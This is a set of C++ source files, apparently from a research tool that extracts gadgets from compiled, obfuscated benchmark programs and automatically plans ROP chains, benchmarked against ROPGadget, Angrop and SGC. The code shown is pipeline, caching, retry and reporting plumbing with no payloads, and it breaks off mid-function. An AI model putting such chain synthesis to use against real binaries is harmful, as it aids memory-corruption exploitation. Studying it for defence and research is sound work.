            static_cast<double>(insts_total) / chains_total;
      }
      result.gp_stages = gp.report();
      result.tools.push_back(std::move(tool));
    }
  }
  return result;
}

}  // namespace gp::core
