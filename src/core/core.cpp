#include "core/core.hpp"

#include "codegen/codegen.hpp"
#include "minic/minic.hpp"
#include "support/config.hpp"

namespace gp::core {

CampaignResult run_campaign(const std::string& program_name,
                            const std::string& source,
                            const obf::Options& obf_opts,
                            const CampaignOptions& opts) {
  CampaignResult result;
  result.program = program_name;
  result.obfuscation = obf_opts.name();

  auto prog = minic::compile_source(source);
  obf::obfuscate(prog, obf_opts);
  codegen::Options copts;
  copts.opt = codegen::opt_level_from_int(Config::from_env().opt_level);
  const image::Image img = codegen::compile(prog, copts);
  result.code_bytes = img.code().size();

  const auto& goals = payload::Goal::all();

  if (opts.run_rop_gadget) {
    ToolOutcome tool;
    tool.tool = "ROPGadget";
    for (const auto& goal : goals) {
      auto r = baselines::rop_gadget(img, goal);
      tool.gadgets_total = r.gadgets_total;
      tool.gadgets_used += r.gadgets_used;
      tool.chains_per_goal.push_back(static_cast<int>(r.chains.size()));
    }
    result.tools.push_back(std::move(tool));
  }

  // The three semantic tools share one extracted library.
  if (opts.run_angrop || opts.run_sgc || opts.run_gadget_planner) {
    Session session(Engine::shared(), img, opts.pipeline);
    session.prepare();
    result.gp_stages = session.report();

    if (opts.run_angrop) {
      ToolOutcome tool;
      tool.tool = "Angrop";
      for (const auto& goal : goals) {
        auto r = baselines::angrop(session.ctx(), session.library(), img, goal);
        tool.gadgets_total = r.gadgets_total;
        tool.gadgets_used += r.gadgets_used;
        tool.chains_per_goal.push_back(static_cast<int>(r.chains.size()));
      }
      result.tools.push_back(std::move(tool));
    }

    if (opts.run_sgc) {
      ToolOutcome tool;
      tool.tool = "SGC";
      for (const auto& goal : goals) {
        auto r = baselines::sgc(session.ctx(), session.library(), img, goal,
                                opts.sgc_max_chains);
        tool.gadgets_total = r.gadgets_total;
        tool.gadgets_used += r.gadgets_used;
        tool.chains_per_goal.push_back(static_cast<int>(r.chains.size()));
      }
      result.tools.push_back(std::move(tool));
    }

    if (opts.run_gadget_planner) {
      ToolOutcome tool;
      tool.tool = "Gadget-Planner";
      tool.gadgets_total = session.library().size();
      int chains_total = 0;
      int insts_total = 0;
      for (const auto& goal : goals) {
        auto chains = session.find_chains(goal);
        tool.chains_per_goal.push_back(static_cast<int>(chains.size()));
        for (const auto& c : chains) {
          tool.gadgets_used += c.gadgets.size();
          ++chains_total;
          insts_total += c.total_insts;
          result.gp_ret += c.ret_gadgets;
          result.gp_ij += c.ij_gadgets;
          result.gp_dj += c.dj_gadgets;
          result.gp_cj += c.cj_gadgets;
          result.gp_avg_gadget_len += c.avg_gadget_len();
        }
      }
      if (chains_total > 0) {
        result.gp_avg_gadget_len /= chains_total;
        result.gp_avg_chain_len =
            static_cast<double>(insts_total) / chains_total;
      }
      result.gp_stages = session.report();
      result.tools.push_back(std::move(tool));
    }
  }
  return result;
}

}  // namespace gp::core
