#include "core/session.hpp"

#include <fcntl.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <mutex>
#include <thread>

#include "gadget/serialize.hpp"
#include "payload/serialize.hpp"
#include "support/fault.hpp"
#include "support/metrics.hpp"
#include "support/trace.hpp"

namespace gp::core {

using Clock = std::chrono::steady_clock;

namespace {
double secs_since(Clock::time_point t0) {
  return std::chrono::duration<double>(Clock::now() - t0).count();
}
}  // namespace

SupervisorOptions SupervisorOptions::from_env() {
  SupervisorOptions o;
  o.max_retries = Config::from_env().max_retries;
  return o;
}

std::string store_dir_from_env() { return Config::from_env().store_dir; }

std::optional<u64> parse_vmrss_mb(const std::string& status_text) {
  size_t pos = 0;
  while (pos < status_text.size()) {
    const size_t eol = status_text.find('\n', pos);
    const std::string line = status_text.substr(
        pos, eol == std::string::npos ? std::string::npos : eol - pos);
    if (line.rfind("VmRSS:", 0) == 0) {
      // Parse only the first digit run after the label. The old loop
      // accumulated EVERY digit in the line, so a hypothetical trailing
      // number would have been glued onto the kB value.
      size_t i = 6;
      while (i < line.size() && !(line[i] >= '0' && line[i] <= '9')) ++i;
      if (i == line.size()) return std::nullopt;
      u64 kb = 0;
      while (i < line.size() && line[i] >= '0' && line[i] <= '9')
        kb = kb * 10 + static_cast<u64>(line[i++] - '0');
      return (kb + 512) / 1024;  // round to nearest MiB, not truncate
    }
    if (eol == std::string::npos) break;
    pos = eol + 1;
  }
  return std::nullopt;
}

u64 current_rss_mb() {
  // /proc files can be pread from offset 0 repeatedly; keeping one fd open
  // avoids a path lookup + open/close per stage boundary.
  static const int fd = ::open("/proc/self/status", O_RDONLY | O_CLOEXEC);
  if (fd < 0) return kRssUnknown;
  char buf[8192];
  const ssize_t n = ::pread(fd, buf, sizeof buf - 1, 0);
  if (n <= 0) return kRssUnknown;
  const auto mb = parse_vmrss_mb(std::string(buf, static_cast<size_t>(n)));
  return mb ? *mb : kRssUnknown;
}

std::string format_rss_mb(u64 mb) {
  return mb == kRssUnknown ? "n/a" : std::to_string(mb);
}

Session::Session(Engine& engine, const image::Image& img, PipelineOptions opts)
    : engine_(engine),
      id_(engine.next_session_id()),
      img_(&img),
      opts_(std::move(opts)),
      gov_(std::make_unique<Governor>(opts_.governor)),
      ctx_(std::make_unique<solver::Context>()) {
  // Arm GP_FAULT before any stage can run (call_once; a no-op when the
  // harness is already armed or the spec is empty). Kept per-session so a
  // custom Engine behaves identically to Engine::shared().
  fault::configure_from_env();
  ctx_->set_governor(gov_.get());
  store_ = engine_.store(opts_.store_dir);
  if (store_) store_baseline_ = store_->stats();
}

Session::Session(Engine& engine, image::Image&& img, PipelineOptions opts)
    : Session(engine, img, std::move(opts)) {
  // Stages are lazy, so nothing has read through img_ yet; adopt the image
  // and repoint before any stage can run.
  owned_img_ = std::move(img);
  img_ = &*owned_img_;
}

void Session::append_image_key(serial::Writer& w) const {
  w.put_u64(img_->entry());
  w.put_bytes(img_->code());
  w.put_bytes(img_->data());
}

void Session::snapshot_store_stats() {
  if (store_) report_.store = store_->stats().since(store_baseline_);
}

Status Session::run_supervised(
    const char* stage, StageRuns& runs,
    const std::function<Status(Governor&)>& body) {
  const SupervisorOptions& sup = opts_.supervise;
  double widen = 1.0;
  double backoff_ms = sup.backoff_initial_ms;
  Status st;
  for (int attempt = 0;; ++attempt) {
    Governor* g = gov_.get();
    if (attempt > 0) {
      ++runs.retries;
      {
        static metrics::Counter& retries =
            metrics::registry().counter("supervisor.retries");
        retries.add();
      }
      widen *= sup.budget_widen_factor;
      // Fresh governor for the retry: counted budgets widened (and their
      // consumption reset), but the session's wall-clock deadline and
      // cancel flag carry over — the supervisor never buys time, only
      // counted headroom. Kept alive for the session: stage internals may
      // hold the governor pointer until the session is destroyed.
      auto fresh = std::make_unique<Governor>(opts_.governor.widened(widen));
      fresh->set_deadline(gov_->deadline());
      fresh->set_cancel_token(gov_->cancel_token());
      g = fresh.get();
      retry_govs_.push_back(std::move(fresh));
    }
    ++runs.attempts;
    {
      static metrics::Counter& attempts =
          metrics::registry().counter("supervisor.attempts");
      attempts.add();
    }
    ctx_->set_governor(g);
    std::exception_ptr invariant_error;
    try {
      trace::Span span(stage, "attempt", id_);
      st = body(*g);
    } catch (const ResourceExhausted& e) {
      // A stage let the control-flow exception escape; treat it like the
      // budget status it carries.
      st = e.status();
    } catch (const Error& e) {
      invariant_error = std::current_exception();
      st = Status::internal(std::string(stage) + " threw: " + e.what());
    }
    ctx_->set_governor(gov_.get());

    const StatusCode c = st.code();
    const bool recoverable = c == StatusCode::BudgetExhausted ||
                             c == StatusCode::FaultInjected ||
                             c == StatusCode::Internal;
    // Deadline expiry and cancellation are terminal: the wall clock is the
    // caller's hard contract, so a retry could only fail the same way.
    if (!recoverable || attempt >= sup.max_retries || gov_->should_stop()) {
      if (invariant_error) std::rethrow_exception(invariant_error);
      return st;
    }

    double sleep_ms = backoff_ms;
    backoff_ms *= sup.backoff_multiplier;
    const double remain_s = gov_->deadline().remaining_seconds();
    if (remain_s <= 0) return st;
    if (!gov_->deadline().unlimited())
      sleep_ms = std::min(sleep_ms, remain_s * 1000.0 / 2);
    if (sleep_ms > 0) {
      // Backoff is deliberate idleness, not stage work: attribute it to
      // runs.backoff_seconds so stage timing can exclude it (measured, not
      // assumed — an oversleeping OS timer must not leak into stage time).
      trace::Span span("backoff", "supervisor", id_);
      const auto s0 = Clock::now();
      std::this_thread::sleep_for(
          std::chrono::duration<double, std::milli>(sleep_ms));
      runs.backoff_seconds += secs_since(s0);
      static metrics::Counter& backoff_ms =
          metrics::registry().counter("supervisor.backoff_ms");
      backoff_ms.add(static_cast<u64>(sleep_ms));
    }
  }
}

void Session::canonicalize_pool(std::vector<gadget::Record>& pool) {
  // Winnowing and planning must be pure functions of pool *content*, not
  // of however the expression arena happened to grow while computing it;
  // otherwise a resumed run — which decodes its pool from a checkpoint
  // into a fresh arena — would diverge from an uninterrupted one, and the
  // kill-resume byte-identity guarantee would not hold. encode_pool is
  // content-determined, so decoding it into a fresh context pins both
  // paths to the same arena state.
  pool_digest_ = 0;  // stale digests must never key a memo for a new pool
  try {
    const auto records = gadget::encode_pool(*ctx_, pool);
    pool_digest_ = gadget::pool_digest(records);
    auto fresh = std::make_unique<solver::Context>();
    fresh->set_governor(gov_.get());
    if (auto decoded = gadget::decode_pool(*fresh, records)) {
      ctx_ = std::move(fresh);
      pool = std::move(*decoded);
    }
  } catch (const ResourceExhausted&) {
    // Out of budget mid-reencode: keep the in-process pool. The run is
    // already degraded and degraded results are never checkpointed — a
    // zero digest likewise disables planner memo persistence.
    pool_digest_ = 0;
  }
}

/// Checkpoint-served stage outputs, rolled up process-wide (per-session
/// detail stays in StageRuns).
static void count_checkpoint(bool same_process) {
  static metrics::Counter& hits =
      metrics::registry().counter("session.cache_hits");
  static metrics::Counter& resumes =
      metrics::registry().counter("session.resumes");
  (same_process ? hits : resumes).add();
}

Status Session::extract() {
  if (extracted_) return report_.extract_status;
  extracted_ = true;
  if (opts_.on_stage) opts_.on_stage("extract");

  trace::Span span("extract", "stage", id_);
  auto t0 = Clock::now();
  bool have_pool = false;
  std::string extract_key;
  if (store_) {
    serial::Writer material;
    append_image_key(material);
    gadget::append_extract_key(material, opts_.extract);
    extract_key = store_->key("extract", material);
    if (auto art = store_->get(extract_key)) {
      if (auto decoded = gadget::decode_pool(*ctx_, art->records)) {
        pool_ = std::move(*decoded);
        have_pool = true;
        count_checkpoint(art->same_process);
        ++(art->same_process ? report_.extract_runs.cache_hits
                             : report_.extract_runs.resumes);
        // Checkpoints hold only clean (uncut) runs, so status stays Ok.
      }
    }
  }
  if (!have_pool) {
    report_.extract_status =
        run_supervised("extract", report_.extract_runs, [&](Governor& g) {
          gadget::Extractor extractor(*ctx_, *img_);
          gadget::ExtractOptions eopts = opts_.extract;
          if (!eopts.governor) eopts.governor = &g;
          pool_ = extractor.extract(eopts);
          extract_stats_ = extractor.stats();
          return extract_stats_.status;
        });
    // Only a clean run is durable: a budget-cut pool is valid but partial,
    // and caching it would freeze the degradation into future runs.
    if (store_ && report_.extract_status.ok())
      store_->put(extract_key, gadget::encode_pool(*ctx_, pool_));
    canonicalize_pool(pool_);
  }
  report_.extract_seconds =
      secs_since(t0) - report_.extract_runs.backoff_seconds;
  report_.pool_raw = pool_.size();
  report_.rss_mb_after_extract = current_rss_mb();
  snapshot_store_stats();
  return report_.extract_status;
}

Status Session::subsume() {
  if (subsumed_) return report_.subsume_status;
  (void)extract();
  subsumed_ = true;
  if (opts_.on_stage) opts_.on_stage("subsume");

  // Span constructed after extract() so a lazily-triggered stage 1 is
  // attributed to its own span, not folded into this one.
  trace::Span span("subsume", "stage", id_);
  auto t1 = Clock::now();
  if (opts_.run_subsumption) {
    bool have_min = false;
    std::string subsume_key;
    // The subsume key describes the *canonical* extraction output; when
    // extraction ran degraded the input pool is partial, so its minimized
    // form must neither be served from nor written to the store.
    const bool canonical_input = report_.extract_status.ok();
    if (store_ && canonical_input) {
      serial::Writer material;
      append_image_key(material);
      gadget::append_extract_key(material, opts_.extract);
      material.put_u64(/*max_solver_checks=*/20'000);
      subsume_key = store_->key("subsume", material);
      if (auto art = store_->get(subsume_key)) {
        if (auto decoded = gadget::decode_pool(*ctx_, art->records)) {
          pool_ = std::move(*decoded);
          have_min = true;
          count_checkpoint(art->same_process);
          ++(art->same_process ? report_.subsume_runs.cache_hits
                               : report_.subsume_runs.resumes);
        }
      }
    }
    if (!have_min) {
      const std::vector<gadget::Record> raw = pool_;  // retries need the input
      report_.subsume_status =
          run_supervised("subsume", report_.subsume_runs, [&](Governor& g) {
            subsume_stats_ = {};
            auto work = raw;
            pool_ = subsume::minimize(*ctx_, std::move(work), &subsume_stats_,
                                      /*max_solver_checks=*/20'000,
                                      /*threads=*/0, &g);
            return subsume_stats_.status;
          });
      // The first cleanly-completed winnow becomes canonical. (Under an
      // exhausted solver-check budget the winnow result can depend on lane
      // scheduling, so pinning the first result in the store is what makes
      // later resumed runs byte-identical.)
      if (store_ && canonical_input && report_.subsume_status.ok())
        store_->put(subsume_key, gadget::encode_pool(*ctx_, pool_));
    }
  }
  report_.subsume_seconds =
      secs_since(t1) - report_.subsume_runs.backoff_seconds;
  report_.pool_minimized = pool_.size();
  report_.rss_mb_after_subsume = current_rss_mb();
  snapshot_store_stats();

  canonicalize_pool(pool_);
  lib_ = std::make_unique<gadget::Library>(std::move(pool_));
  return report_.subsume_status;
}

std::vector<payload::Chain> Session::find_chains(const payload::Goal& goal) {
  prepare();
  if (opts_.on_stage) opts_.on_stage("plan");
  trace::Span span("plan", "stage", id_);
  auto t0 = Clock::now();
  // find_chains accumulates plan_seconds across goals; subtract only the
  // backoff accrued during THIS call.
  const double backoff0 = report_.plan_runs.backoff_seconds;

  // Chains are only exchanged with the store when the library they index
  // is the canonical one (no stage upstream ran degraded).
  const bool canonical_library =
      report_.extract_status.ok() &&
      (!opts_.run_subsumption || report_.subsume_status.ok());
  std::string plan_key;
  if (store_ && canonical_library) {
    serial::Writer material;
    append_image_key(material);
    gadget::append_extract_key(material, opts_.extract);
    material.put_bool(opts_.run_subsumption);
    material.put_str(goal.name);
    opts_.plan.append_key(material);
    plan_key = store_->key("plan", material);
    if (auto art = store_->get(plan_key)) {
      if (auto chains = payload::decode_chains(art->records, lib_->size())) {
        count_checkpoint(art->same_process);
        ++(art->same_process ? report_.plan_runs.cache_hits
                             : report_.plan_runs.resumes);
        report_.plan_seconds += secs_since(t0);
        snapshot_store_stats();
        return *chains;
      }
    }
  }

  std::vector<payload::Chain> chains;
  const Status st =
      run_supervised("plan", report_.plan_runs, [&](Governor& g) {
        planner::Planner planner(*ctx_, *lib_, *img_);
        planner::Options popts = opts_.plan;
        if (!popts.governor) popts.governor = &g;
        popts.session_id = id_;
        // Warm-start memos (candidate index, nogood tables) only make
        // sense against the canonical pool: a degraded pool's digest
        // would key memos nothing else can ever reuse.
        if (store_ && canonical_library && pool_digest_ != 0) {
          popts.memo_store = store_.get();
          popts.pool_digest = pool_digest_;
        }
        chains = planner.plan(goal, popts);
        const auto& s = planner.stats();
        planner_stats_.expansions += s.expansions;
        planner_stats_.successors += s.successors;
        planner_stats_.dead_ends += s.dead_ends;
        planner_stats_.linearizations += s.linearizations;
        planner_stats_.concretize_calls += s.concretize_calls;
        planner_stats_.validated += s.validated;
        planner_stats_.deadline_cuts += s.deadline_cuts;
        planner_stats_.index_hits += s.index_hits;
        planner_stats_.index_builds += s.index_builds;
        planner_stats_.index_loads += s.index_loads;
        planner_stats_.nogood_hits += s.nogood_hits;
        planner_stats_.nogood_learned += s.nogood_learned;
        planner_stats_.needs_truncated += s.needs_truncated;
        planner_stats_.unreachable_goals += s.unreachable_goals;
        planner_stats_.failure_budget_cuts += s.failure_budget_cuts;
        planner_stats_.precheck_seconds += s.precheck_seconds;
        planner_stats_.status.merge(s.status);
        if (metrics::enabled()) {
          metrics::Registry& reg = metrics::registry();
          reg.counter("plan.expansions").add(s.expansions);
          reg.counter("plan.dead_ends").add(s.dead_ends);
          reg.counter("plan.concretize_calls").add(s.concretize_calls);
          reg.counter("plan.validated").add(s.validated);
          reg.counter("plan.index_hits").add(s.index_hits);
          reg.counter("plan.nogood_hits").add(s.nogood_hits);
          reg.counter("plan.needs_truncated").add(s.needs_truncated);
          reg.counter("plan.unreachable_goals").add(s.unreachable_goals);
          reg.counter("plan.failure_budget_cuts").add(s.failure_budget_cuts);
          // The precheck completes in sub-millisecond time, so a
          // per-call millisecond truncation always recorded 0 ("precheck
          // never ran"). Record microseconds, and derive the legacy ms
          // counter from the us total with a carried remainder so
          // sub-millisecond calls still accumulate into it.
          reg.counter("plan.unreachable_us")
              .add(static_cast<u64>(s.precheck_seconds * 1e6));
          {
            static std::mutex mu;
            static u64 carry_us = 0;
            std::lock_guard<std::mutex> lock(mu);
            carry_us += static_cast<u64>(s.precheck_seconds * 1e6);
            reg.counter("plan.unreachable_ms").add(carry_us / 1000);
            carry_us %= 1000;
          }
        }
        return s.status;
      });
  if (store_ && canonical_library && st.ok())
    store_->put(plan_key, payload::encode_chains(chains));
  snapshot_store_stats();
  report_.plan_seconds +=
      secs_since(t0) - (report_.plan_runs.backoff_seconds - backoff0);
  report_.rss_mb_after_plan = current_rss_mb();
  report_.plan_status = st;
  return chains;
}

}  // namespace gp::core
