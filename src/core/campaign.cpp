#include "core/campaign.hpp"

#include <algorithm>
#include <chrono>
#include <cstdio>

#include "codegen/codegen.hpp"
#include "corpus/corpus.hpp"
#include "minic/minic.hpp"
#include "payload/serialize.hpp"

namespace gp::core {

using Clock = std::chrono::steady_clock;

namespace {

double secs_since(Clock::time_point t0) {
  return std::chrono::duration<double>(Clock::now() - t0).count();
}

std::string json_escape(const std::string& s) {
  std::string out;
  out.reserve(s.size());
  for (const char c : s) {
    if (c == '"' || c == '\\') out += '\\';
    if (static_cast<unsigned char>(c) < 0x20) continue;  // names are plain
    out += c;
  }
  return out;
}

std::string format_double(double v) {
  char buf[40];
  std::snprintf(buf, sizeof buf, "%.4f", v);
  return buf;
}

std::string hex16(u64 v) {
  char buf[24];
  std::snprintf(buf, sizeof buf, "%016llx", static_cast<unsigned long long>(v));
  return buf;
}

}  // namespace

obf::Options profile_by_name(const std::string& name, u64 seed) {
  using obf::Options;
  if (name == "none") return Options::none();
  if (name == "substitution") return {.substitution = true, .seed = seed};
  if (name == "bogus-cf") return {.bogus_cf = true, .seed = seed};
  if (name == "flatten") return {.flatten = true, .seed = seed};
  if (name == "encode-data") return {.encode_data = true, .seed = seed};
  if (name == "virtualize") return {.virtualize = true, .seed = seed};
  if (name == "llvm-obf") return Options::llvm_obf(seed);
  if (name == "tigress") return Options::tigress(seed);
  throw Error("unknown obfuscation profile '" + name + "'");
}

Campaign::Campaign(Engine& engine, Options opts)
    : engine_(engine), opts_(std::move(opts)) {
  opts_.concurrency = std::max(1, opts_.concurrency);
}

std::vector<Job> Campaign::corpus_jobs(const std::vector<std::string>& profiles,
                                       int seed) {
  std::vector<Job> jobs;
  for (const auto& program : corpus::benchmark()) {
    for (const auto& profile : profiles) {
      Job job;
      job.program = program.name;
      job.source = program.source;
      job.obfuscation = profile;
      job.obf = profile_by_name(profile, static_cast<u64>(seed));
      jobs.push_back(std::move(job));
    }
  }
  return jobs;
}

Campaign::Summary Campaign::run(const std::vector<Job>& jobs) {
  const auto t0 = Clock::now();
  Summary sum;
  sum.concurrency = opts_.concurrency;
  sum.pool_threads = engine_.pool().workers() + 1;
  sum.results.resize(jobs.size());
  if (jobs.empty()) return sum;

  // Compile phase, sequential and up front: mini-C compilation is
  // milliseconds per job, and keeping the compilers out of the concurrent
  // phase means only Sessions — which are built for it — run in parallel.
  std::vector<image::Image> images(jobs.size());
  for (size_t i = 0; i < jobs.size(); ++i) {
    const Job& job = jobs[i];
    const std::string& src =
        job.source.empty() ? corpus::by_name(job.program).source : job.source;
    auto prog = minic::compile_source(src);
    obf::obfuscate(prog, job.obf);
    images[i] = codegen::compile(prog);
  }

  // Each concurrent session runs on a share of the campaign budget; the
  // wall-clock deadline (if any) stays common to every lane.
  PipelineOptions popts = opts_.pipeline;
  if (opts_.split_budget)
    popts.governor = opts_.pipeline.governor.split_across(opts_.concurrency);

  engine_.pool().run(
      jobs.size(),
      [&](int /*lane*/, u64 i) {
        const Job& job = jobs[i];
        JobResult& r = sum.results[i];
        r.program = job.program;
        r.obfuscation =
            job.obfuscation.empty() ? job.obf.name() : job.obfuscation;
        r.code_bytes = images[i].code().size();

        const auto j0 = Clock::now();
        Session session(engine_, std::move(images[i]), popts);
        session.prepare();
        serial::Writer digest;
        for (const auto& goal : job.goals) {
          auto chains = session.find_chains(goal);
          digest.put_str(goal.name);
          for (const auto& rec : payload::encode_chains(chains))
            serial::put_record(digest, rec);
          r.chains_per_goal.push_back(static_cast<int>(chains.size()));
          r.chains.push_back(std::move(chains));
        }
        r.stages = session.report();
        r.extract_stats = session.extract_stats();
        r.subsume_stats = session.subsume_stats();
        r.planner_stats = session.planner_stats();
        r.status = r.stages.worst_status();
        r.result_digest = serial::fnv1a(digest.bytes());
        r.seconds = secs_since(j0);
        if (opts_.on_job) opts_.on_job(job, session, r);
      },
      opts_.concurrency);

  for (const JobResult& r : sum.results) {
    if (r.status.ok())
      ++sum.jobs_ok;
    else if (r.status.code() == StatusCode::Internal)
      ++sum.jobs_failed;
    else
      ++sum.jobs_degraded;
  }
  sum.wall_seconds = secs_since(t0);
  return sum;
}

std::string Campaign::Summary::to_json() const {
  std::string j;
  j += "{\n";
  j += "  \"schema\": \"gp-campaign-v1\",\n";
  j += "  \"jobs\": " + std::to_string(results.size()) + ",\n";
  j += "  \"concurrency\": " + std::to_string(concurrency) + ",\n";
  j += "  \"pool_threads\": " + std::to_string(pool_threads) + ",\n";
  j += "  \"wall_seconds\": " + format_double(wall_seconds) + ",\n";
  j += "  \"jobs_ok\": " + std::to_string(jobs_ok) + ",\n";
  j += "  \"jobs_degraded\": " + std::to_string(jobs_degraded) + ",\n";
  j += "  \"jobs_failed\": " + std::to_string(jobs_failed) + ",\n";
  j += "  \"results\": [\n";
  for (size_t i = 0; i < results.size(); ++i) {
    const JobResult& r = results[i];
    const auto& s = r.stages;
    j += "    {\"program\": \"" + json_escape(r.program) + "\", ";
    j += "\"obfuscation\": \"" + json_escape(r.obfuscation) + "\", ";
    j += "\"code_bytes\": " + std::to_string(r.code_bytes) + ", ";
    j += "\"status\": \"" + std::string(status_code_name(r.status.code())) +
         "\", ";
    j += "\"extract_seconds\": " + format_double(s.extract_seconds) + ", ";
    j += "\"subsume_seconds\": " + format_double(s.subsume_seconds) + ", ";
    j += "\"plan_seconds\": " + format_double(s.plan_seconds) + ", ";
    j += "\"job_seconds\": " + format_double(r.seconds) + ", ";
    j += "\"pool_raw\": " + std::to_string(s.pool_raw) + ", ";
    j += "\"pool_minimized\": " + std::to_string(s.pool_minimized) + ", ";
    j += "\"rss_mb_after_plan\": " + std::to_string(s.rss_mb_after_plan) +
         ", ";
    j += "\"attempts\": {\"extract\": " +
         std::to_string(s.extract_runs.attempts) +
         ", \"subsume\": " + std::to_string(s.subsume_runs.attempts) +
         ", \"plan\": " + std::to_string(s.plan_runs.attempts) + "}, ";
    j += "\"chains_per_goal\": [";
    for (size_t g = 0; g < r.chains_per_goal.size(); ++g) {
      if (g) j += ", ";
      j += std::to_string(r.chains_per_goal[g]);
    }
    j += "], ";
    j += "\"chains_total\": " + std::to_string(r.total_chains()) + ", ";
    j += "\"digest\": \"" + hex16(r.result_digest) + "\"}";
    j += (i + 1 < results.size()) ? ",\n" : "\n";
  }
  j += "  ]\n";
  j += "}\n";
  return j;
}

}  // namespace gp::core
