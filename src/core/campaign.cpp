#include "core/campaign.hpp"

#include <algorithm>
#include <chrono>
#include <cstdio>

#include "codegen/codegen.hpp"
#include "corpus/corpus.hpp"
#include "minic/minic.hpp"
#include "payload/serialize.hpp"
#include "support/config.hpp"
#include "support/metrics.hpp"
#include "support/str.hpp"
#include "support/trace.hpp"

namespace gp::core {

using Clock = std::chrono::steady_clock;

namespace {

double secs_since(Clock::time_point t0) {
  return std::chrono::duration<double>(Clock::now() - t0).count();
}

// JSON escaping is the shared gp::json_escape (support/str.hpp). The old
// local version emitted a bare backslash before dropping control chars —
// `"a\nb"` became the invalid literal `a\b` — and is gone.

std::string format_double(double v) {
  char buf[40];
  std::snprintf(buf, sizeof buf, "%.4f", v);
  return buf;
}

std::string hex16(u64 v) {
  char buf[24];
  std::snprintf(buf, sizeof buf, "%016llx", static_cast<unsigned long long>(v));
  return buf;
}

}  // namespace

obf::Options profile_by_name(const std::string& name, u64 seed) {
  using obf::Options;
  if (name == "none") return Options::none();
  if (name == "substitution") return {.substitution = true, .seed = seed};
  if (name == "bogus-cf") return {.bogus_cf = true, .seed = seed};
  if (name == "flatten") return {.flatten = true, .seed = seed};
  if (name == "encode-data") return {.encode_data = true, .seed = seed};
  if (name == "virtualize") return {.virtualize = true, .seed = seed};
  if (name == "llvm-obf") return Options::llvm_obf(seed);
  if (name == "tigress") return Options::tigress(seed);
  throw Error("unknown obfuscation profile '" + name +
              "' (valid profiles: none, substitution, bogus-cf, flatten, "
              "encode-data, virtualize, llvm-obf, tigress)");
}

Campaign::Campaign(Engine& engine, Options opts)
    : engine_(engine), opts_(std::move(opts)) {
  opts_.concurrency = std::max(1, opts_.concurrency);
}

std::vector<Job> Campaign::corpus_jobs(const std::vector<std::string>& profiles,
                                       int seed,
                                       const std::vector<int>& opt_levels) {
  // Validate levels up front — rejecting before any job compiles keeps a
  // typo'd sweep from burning a campaign's worth of work.
  for (const int level : opt_levels) codegen::opt_level_from_int(level);
  const std::vector<int> levels =
      opt_levels.empty() ? std::vector<int>{-1} : opt_levels;
  std::vector<Job> jobs;
  for (const auto& program : corpus::benchmark()) {
    for (const auto& profile : profiles) {
      for (const int level : levels) {
        Job job;
        job.program = program.name;
        job.source = program.source;
        job.obfuscation = profile;
        job.obf = profile_by_name(profile, static_cast<u64>(seed));
        job.opt_level = level;
        jobs.push_back(std::move(job));
      }
    }
  }
  return jobs;
}

Campaign::Summary Campaign::run(const std::vector<Job>& jobs) {
  const auto t0 = Clock::now();
  Summary sum;
  sum.concurrency = opts_.concurrency;
  sum.pool_threads = engine_.pool().workers() + 1;
  sum.results.resize(jobs.size());
  if (jobs.empty()) return sum;

  // Compile phase, sequential and up front: mini-C compilation is
  // milliseconds per job, and keeping the compilers out of the concurrent
  // phase means only Sessions — which are built for it — run in parallel.
  std::vector<image::Image> images(jobs.size());
  const int env_level = Config::from_env().opt_level;
  for (size_t i = 0; i < jobs.size(); ++i) {
    const Job& job = jobs[i];
    const std::string& src =
        job.source.empty() ? corpus::by_name(job.program).source : job.source;
    auto prog = minic::compile_source(src);
    obf::obfuscate(prog, job.obf);
    const int level = job.opt_level >= 0 ? job.opt_level : env_level;
    codegen::Options copts;
    copts.opt = codegen::opt_level_from_int(level);
    images[i] = codegen::compile(prog, copts);
    sum.results[i].opt_level = level;
  }

  // Each concurrent session runs on a share of the campaign budget; the
  // wall-clock deadline (if any) stays common to every lane.
  PipelineOptions popts = opts_.pipeline;
  if (opts_.split_budget)
    popts.governor = opts_.pipeline.governor.split_across(opts_.concurrency);

  engine_.pool().run(
      jobs.size(),
      [&](int /*lane*/, u64 i) {
        const Job& job = jobs[i];
        JobResult& r = sum.results[i];
        r.program = job.program;
        r.obfuscation =
            job.obfuscation.empty() ? job.obf.name() : job.obfuscation;
        r.code_bytes = images[i].code().size();

        trace::Span span("job:" + r.program + "/" + r.obfuscation, "job");
        const auto j0 = Clock::now();
        r.start_seconds = std::chrono::duration<double>(j0 - t0).count();
        Session session(engine_, std::move(images[i]), popts);
        span.set_session(session.id());
        session.prepare();
        serial::Writer digest;
        for (const auto& goal : job.goals) {
          auto chains = session.find_chains(goal);
          digest.put_str(goal.name);
          for (const auto& rec : payload::encode_chains(chains))
            serial::put_record(digest, rec);
          r.goal_names.push_back(goal.name);
          r.chains_per_goal.push_back(static_cast<int>(chains.size()));
          r.chains.push_back(std::move(chains));
        }
        r.stages = session.report();
        r.extract_stats = session.extract_stats();
        r.subsume_stats = session.subsume_stats();
        r.planner_stats = session.planner_stats();
        r.status = r.stages.worst_status();
        r.result_digest = serial::fnv1a(digest.bytes());
        r.seconds = secs_since(j0);
        r.end_seconds = secs_since(t0);
        if (metrics::enabled()) {
          metrics::Registry& reg = metrics::registry();
          reg.counter("campaign.jobs").add();
          if (!r.status.ok()) reg.counter("campaign.jobs_degraded").add();
          reg.histogram("campaign.job_ms")
              .observe(static_cast<u64>(r.seconds * 1e3));
        }
        if (opts_.on_job) {
          // A throwing hook must stay a per-job failure: letting it escape
          // would rethrow out of pool().run after the barrier, discarding
          // every other lane's finished results (and before the barrier
          // there is nothing to protect the job-order results vector from a
          // half-written entry). The job's chains and digest are already
          // recorded above, so the digest stays deterministic.
          try {
            opts_.on_job(job, session, r);
          } catch (const std::exception& e) {
            r.status =
                Status::internal(std::string("on_job hook threw: ") + e.what());
          } catch (...) {
            r.status = Status::internal("on_job hook threw");
          }
        }
      },
      opts_.concurrency);

  for (const JobResult& r : sum.results) {
    if (r.status.ok())
      ++sum.jobs_ok;
    else if (r.status.code() == StatusCode::Internal)
      ++sum.jobs_failed;
    else
      ++sum.jobs_degraded;
  }
  sum.wall_seconds = secs_since(t0);
  if (metrics::enabled()) sum.metrics_json = metrics::registry().to_json();
  return sum;
}

Campaign::Summary::CriticalPath Campaign::Summary::critical_path() const {
  CriticalPath cp;
  for (size_t i = 0; i < results.size(); ++i)
    if (cp.job < 0 || results[i].end_seconds >
                          results[static_cast<size_t>(cp.job)].end_seconds)
      cp.job = static_cast<int>(i);
  if (cp.job < 0) return cp;
